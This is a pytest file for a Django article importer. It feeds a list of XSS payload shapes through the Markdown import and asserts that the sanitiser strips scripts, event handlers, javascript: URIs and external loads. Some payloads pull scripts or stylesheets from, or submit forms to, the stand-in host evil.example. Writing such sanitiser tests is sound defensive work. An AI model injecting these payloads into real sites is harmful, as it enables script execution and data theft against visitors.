"""Inline HTML in imported documents is rendered, then sanitised with the written
allow-list: the usual XSS shapes come out harmless."""

from html.parser import HTMLParser

import pytest

from articles.models import Article
from articles.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

from .conftest import import_paths

pytestmark = pytest.mark.django_db

XSS_SHAPES = [
    "<script>alert(document.domain)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href="&#106;avascript:alert(1)">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/" onload="alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="https://evil.example/x.swf">',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<div style="background:url(javascript:alert(1))">style</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="q"><button>Envoyer</button></form>',
    '<p onmouseover="alert(1)">survol</p>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    "<base href=https://evil.example/>",
    '<a href="https://ok.example/" target="_blank" onclick="alert(1)">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "[lien](javascript:alert(1))",
    "![image](javascript:alert(1))",
    '<blockquote class="twitter-tweet"><p>t</p><script src="https://platform.twitter.com/widgets.js"></script></blockquote>',
]


class Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]


def test_xss_shapes_through_the_import_come_out_harmless(tmp_path, client):
    body = "\n\n".join(f"Cas {i} : {shape}" for i, shape in enumerate(XSS_SHAPES))
    (tmp_path / "xss.md").write_text(f"---\ntitle: XSS\n---\n{body}\n", encoding="utf-8")
    import_paths(tmp_path)
    article = Article.objects.get()
    for html in (article.body_html, client.get(article.get_absolute_url()).content.decode()):
        prose = html if html is article.body_html else html[html.index('<div class="prose">') :]
        collector = Collector()
        collector.feed(prose[: prose.index("</article>")] if "</article>" in prose else prose)
        for tag in collector.tags:
            assert tag in ALLOWED_TAGS or tag == "div"  # the page's own wrapper
        for tag, name, value in collector.attrs:
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "srcdoc", "action", "formaction"), (tag, name)
            if tag in ALLOWED_ATTRIBUTES:
                assert name in ALLOWED_ATTRIBUTES[tag] | {"rel", "class", "lang", "title"}
            if name in ("href", "src"):
                assert value.startswith(("https://", "http://", "/", "mailto:")) or value == ""
                assert "evil.example" not in value or tag == "a"
    assert "<script" not in article.body_html and "<style" not in article.body_html
    assert "evil.example/x.js" not in article.body_html
    assert "<iframe" not in article.body_html  # no embed host among these
